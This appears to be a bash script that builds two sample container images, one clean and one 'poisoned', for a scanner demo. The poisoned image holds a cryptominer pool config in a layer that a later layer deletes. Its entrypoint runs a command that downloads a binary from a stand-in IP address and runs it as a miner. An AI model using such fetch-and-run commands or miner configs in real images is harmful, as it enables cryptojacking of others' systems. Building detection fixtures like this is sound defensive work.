#!/usr/bin/env bash
# Re-creates the two sample images bin/demo scans, with umoci (a tool we did not write).
# The poisoned one carries miner indicators, not a miner: strings a miner's config and
# command line would hold, in a file added by one layer and deleted by the next.
set -euo pipefail
here="$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)"
work="$(mktemp -d)"
trap 'rm -rf "$work"' EXIT
export SOURCE_DATE_EPOCH=0

rm -rf "$here/poisoned" "$here/clean"
umoci init --layout "$here/poisoned"
umoci new --image "$here/poisoned:latest"
mkdir -p "$work/p/etc/systemd"
cat > "$work/p/etc/systemd/log_rot.json" <<'JSON'
{
  "autosave": true,
  "donate-level": 1,
  "randomx": {"init": -1},
  "pools": [{"url": "stratum+tcp://pool.supportxmr.com:3333", "user": "WALLET", "pass": "x"}]
}
JSON
umoci insert --image "$here/poisoned:latest" --history.created_by "COPY log_rot.json /etc/systemd/" \
  "$work/p/etc/systemd/log_rot.json" /etc/systemd/log_rot.json
umoci insert --image "$here/poisoned:latest" --history.created_by "RUN rm /etc/systemd/log_rot.json" \
  --whiteout /etc/systemd/log_rot.json
umoci config --image "$here/poisoned:latest" --config.entrypoint /bin/sh --config.cmd -c \
  --config.cmd "wget -q http://203.0.113.7/x -O /tmp/x && chmod +x /tmp/x && /tmp/x -o stratum+tcp://203.0.113.7:443 --donate-level 1"

umoci init --layout "$here/clean"
umoci new --image "$here/clean:latest"
mkdir -p "$work/c/app"
printf '#!/bin/sh\necho "hello from a clean image"\n' > "$work/c/app/hello.sh"
umoci insert --image "$here/clean:latest" --history.created_by "COPY hello.sh /app/" "$work/c/app/hello.sh" /app/hello.sh
umoci config --image "$here/clean:latest" --config.entrypoint /app/hello.sh
umoci gc --layout "$here/poisoned"
umoci gc --layout "$here/clean"
